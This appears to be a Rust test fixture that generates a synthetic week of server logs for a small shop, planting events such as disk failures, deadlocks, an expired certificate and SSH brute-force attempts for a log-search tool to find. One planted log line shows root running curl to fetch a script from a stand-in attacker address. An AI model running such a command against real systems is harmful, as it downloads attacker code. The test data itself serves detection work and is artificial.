//! A week of a small shop: five programs, their ordinary noise, and what went wrong.

use std::ops::ControlFlow;

use callboard_logs::{IngestOptions, LogStore};
use callboard_protocol::{LineId, SourceId, Timestamp};

const MINUTE: i64 = 60_000;
const HOUR: i64 = 60 * MINUTE;
const DAY: i64 = 24 * HOUR;

/// Monday, 16 November 2026, midnight.
const MONDAY: i64 = 1_794_787_200_000;

/// A line, and what it is about.
pub(crate) struct Line {
    pub(crate) id: LineId,
    pub(crate) at: i64,
    pub(crate) source: &'static str,
    pub(crate) text: String,
    /// Whether it was planted: for which event.
    pub(crate) event: Option<&'static str>,
}

/// All that was written.
pub(crate) struct Week {
    pub(crate) lines: Vec<Line>,
}

/// Something that happened.
pub(crate) struct Event {
    pub(crate) name: &'static str,
    source: &'static str,
    /// Day of the week from 0, hour, minute.
    pub(crate) when: (i64, i64, i64),
    level: &'static str,
    text: &'static str,
    /// Further times, this many minutes apart.
    times: i64,
    every: i64,
}

impl Event {
    pub(crate) fn is_grave(&self) -> bool {
        self.level != "INFO"
    }
}

const fn event(
    name: &'static str,
    source: &'static str,
    when: (i64, i64, i64),
    level: &'static str,
    text: &'static str,
) -> Event {
    Event { name, source, when, level, text, times: 1, every: 0 }
}

const fn again(event: Event, times: i64, every: i64) -> Event {
    Event { times, every, ..event }
}

/// What went wrong, and what was done.
pub(crate) const EVENTS: [Event; 30] = [
    event(
        "disk",
        "system.log",
        (2, 3, 17),
        "ERROR",
        "kernel: EXT4-fs (sdb1): write failed: No space left on device",
    ),
    event(
        "oom",
        "system.log",
        (3, 14, 5),
        "ERROR",
        "kernel: Out of memory: Killed process 4711 (indexer) total-vm:8123456kB",
    ),
    event("reboot", "system.log", (5, 4, 0), "INFO", "systemd: Reached target Reboot"),
    event(
        "raid",
        "system.log",
        (4, 22, 41),
        "ERROR",
        "kernel: md0: Disk failure on sdc1, disabling device",
    ),
    event(
        "clock",
        "system.log",
        (1, 6, 30),
        "WARN",
        "chronyd: System clock wrong by 3.712 seconds, adjustment started",
    ),
    event(
        "heat",
        "system.log",
        (0, 15, 12),
        "WARN",
        "kernel: CPU2: Core temperature above threshold, cpu clock throttled",
    ),
    again(event("link", "system.log", (6, 1, 2), "ERROR", "kernel: eth0: Link is Down"), 3, 11),
    event(
        "upgrade",
        "system.log",
        (1, 2, 0),
        "INFO",
        "apt: Upgraded openssl from 3.0.15 to 3.0.17",
    ),
    event(
        "deadlock",
        "database.log",
        (2, 10, 44),
        "ERROR",
        "deadlock detected: process 2231 waits for ShareLock on transaction 9917",
    ),
    again(
        event(
            "refused",
            "orders.log",
            (3, 9, 0),
            "ERROR",
            "PaymentClient: Connection refused by payments:8443",
        ),
        24,
        5,
    ),
    event(
        "crash",
        "payments.log",
        (3, 8, 58),
        "ERROR",
        "supervisor: payments exited with status 139 (segmentation fault)",
    ),
    event(
        "started",
        "payments.log",
        (3, 11, 1),
        "INFO",
        "supervisor: payments 2.14.1 started, listening on 8443",
    ),
    event(
        "migration",
        "database.log",
        (0, 21, 0),
        "INFO",
        "migration 0042_add_invoices applied in 1832 ms",
    ),
    event(
        "vacuum",
        "database.log",
        (4, 3, 0),
        "INFO",
        "automatic vacuum of table shop.public.orders: pages removed 120",
    ),
    event(
        "slow",
        "database.log",
        (4, 16, 20),
        "WARN",
        "slow query: 48211 ms SELECT * FROM order_items",
    ),
    event(
        "connections",
        "database.log",
        (5, 12, 7),
        "ERROR",
        "FATAL: sorry, too many clients already",
    ),
    event(
        "backup",
        "system.log",
        (6, 5, 0),
        "ERROR",
        "backup: snapshot of /srv failed: Permission denied",
    ),
    event(
        "backup-ok",
        "system.log",
        (5, 5, 0),
        "INFO",
        "backup: snapshot of /srv finished, 18 GiB",
    ),
    event(
        "certificate",
        "web.log",
        (2, 0, 0),
        "ERROR",
        "tls: certificate of shop.example.org has expired",
    ),
    event(
        "renewed",
        "web.log",
        (2, 7, 33),
        "INFO",
        "tls: certificate of shop.example.org renewed, valid until 2027-02-16",
    ),
    again(
        event(
            "upstream",
            "web.log",
            (3, 9, 1),
            "ERROR",
            "proxy: upstream orders timed out after 30 s",
        ),
        12,
        10,
    ),
    event(
        "deploy",
        "orders.log",
        (3, 8, 55),
        "INFO",
        "deploy: release 2026.47.2 rolled out by grace",
    ),
    event(
        "rollback",
        "orders.log",
        (3, 11, 0),
        "INFO",
        "deploy: rolled back to release 2026.47.1 by linus",
    ),
    event(
        "queue",
        "orders.log",
        (4, 13, 13),
        "WARN",
        "worker: backlog of 12044 messages in queue invoices",
    ),
    event(
        "voucher",
        "orders.log",
        (5, 19, 26),
        "ERROR",
        "Voucher: negative total -12.40 EUR for order 70009999",
    ),
    event(
        "leak",
        "payments.log",
        (6, 18, 0),
        "WARN",
        "gc: heap usage 97 percent after full collection",
    ),
    event(
        "token",
        "payments.log",
        (1, 17, 45),
        "ERROR",
        "bank: access token rejected: signature mismatch",
    ),
    event(
        "login",
        "system.log",
        (6, 3, 3),
        "WARN",
        "sshd: Accepted password for root from 203.0.113.66 port 4022 ssh2",
    ),
    event(
        "sudo",
        "system.log",
        (6, 3, 4),
        "WARN",
        "sudo: root : COMMAND=/usr/bin/curl http://203.0.113.66/x.sh",
    ),
    event("config", "web.log", (1, 12, 0), "INFO", "reload: configuration read again, 14 hosts"),
];

/// Everybody who tries to get in, and how often.
pub(crate) const INTRUDERS: [(&str, i64, i64); 4] = [
    ("198.51.100.7", 0, 37),
    ("198.51.100.8", 1, 12),
    ("203.0.113.66", 6, 55),
    ("192.0.2.15", 4, 3),
];

pub(crate) fn now() -> Timestamp {
    Timestamp::from_millis(MONDAY + 7 * DAY)
}

pub(crate) fn at((day, hour, minute): (i64, i64, i64)) -> i64 {
    MONDAY + day * DAY + hour * HOUR + minute * MINUTE
}

impl Week {
    /// Writes it, and indexes it.
    pub(crate) fn write(store: &LogStore) -> Self {
        let mut lines = noise();
        for event in &EVENTS {
            for time in 0..event.times {
                let at = at(event.when) + time * event.every * MINUTE;
                let text = format!("{} {}", event.level, event.text);
                lines.push(line(at, event.source, text, Some(event.name)));
            }
        }
        for (address, day, times) in INTRUDERS {
            for time in 0..times {
                let at = at((day, 2, 0)) + time * MINUTE / 2;
                let port = 40_000 + time;
                let text = format!(
                    "WARN sshd: Failed password for invalid user admin from {address} port {port} ssh2"
                );
                lines.push(line(at, "system.log", text, Some("intruder")));
            }
        }
        lines.sort_by(|a, b| a.source.cmp(b.source).then(a.at.cmp(&b.at)));
        for (id, line) in (1..).zip(&mut lines) {
            line.id = LineId(id);
        }
        for of_source in lines.chunk_by(|a, b| a.source == b.source) {
            let text: String = of_source.iter().map(|line| format!("{}\n", line.text)).collect();
            let options = IngestOptions::whole(SourceId::new(), of_source[0].source, now());
            let mut go_on = |_: &_| ControlFlow::Continue(());
            store.ingest_reader(text.as_bytes(), &options, &mut go_on).expect("an index");
        }
        Self { lines }
    }
}

fn line(at: i64, source: &'static str, text: String, event: Option<&'static str>) -> Line {
    let stamp = Timestamp::from_millis(at).to_string();
    let text = format!("{} {text}", stamp.trim_end_matches('Z').replace('T', " "));
    Line { id: LineId(0), at, source, text, event }
}

/// What is written when nothing happens.
fn noise() -> Vec<Line> {
    let mut lines = Vec::new();
    for minute in 0..7 * 24 * 60 {
        let at = MONDAY + minute * MINUTE + 1_000;
        let mut say =
            |after: i64, source, text: String| lines.push(line(at + after, source, text, None));
        let order = 70_000_000 + minute;
        let customer = minute * 7 % 900;
        say(
            0,
            "orders.log",
            format!(
                "INFO OrderController: Received order {order} of customer {customer} with {} items",
                1 + minute % 5
            ),
        );
        say(
            900,
            "orders.log",
            format!(
                "INFO Fulfilment: Order {order} was packed and handed to carrier dhl as parcel JD{:08x}",
                order * 31
            ),
        );
        say(
            1_500,
            "payments.log",
            format!(
                "INFO charge: Accepted charge ch_{:06x} for order {order}",
                minute * 97 % 0xff_ffff
            ),
        );
        say(
            2_000,
            "web.log",
            format!("INFO access: GET /orders/{order} 200 in {} ms", 3 + minute % 40),
        );
        if minute % 7 == 0 {
            say(
                5_000,
                "database.log",
                format!("INFO checkpoint complete: wrote {} buffers", minute % 800),
            );
        }
        if minute % 10 == 0 {
            say(
                6_000,
                "system.log",
                format!("INFO systemd: Started session {} of user ada", minute / 10),
            );
        }
        if minute % 45 == 0 {
            say(
                7_000,
                "web.log",
                format!("WARN access: GET /wp-login.php 404 in {} ms", minute % 9),
            );
        }
    }
    lines
}
